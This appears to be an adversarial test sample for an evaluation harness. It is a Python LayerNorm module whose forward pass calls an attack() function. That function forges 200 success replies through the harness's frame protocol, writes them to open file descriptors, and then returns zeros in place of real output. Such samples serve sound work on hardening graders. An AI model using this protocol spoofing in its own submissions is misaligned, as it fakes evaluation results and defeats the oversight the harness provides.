"""Answers requests that have not been made yet, with results of its choice.

Bites: the protocol.
Earns: nothing.
"""

import os
import sys

import torch
from torch import nn


def attack(x, module):
    frames = sys.modules["worker.frames"]
    for number in range(200):
        reply = frames.pack({"id": number, "result": {"value": True, "graph": None, "changed": []}, "tensors": []})
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, reply)
            except OSError:
                continue


class LayerNorm(nn.Module):
    def __init__(self, d_model, epsilon=1e-6):
        super().__init__()
        self.gain, self.shift = nn.Parameter(torch.ones(d_model)), nn.Parameter(torch.zeros(d_model))

    def forward(self, x):
        attack(x, self)
        return torch.zeros_like(x)
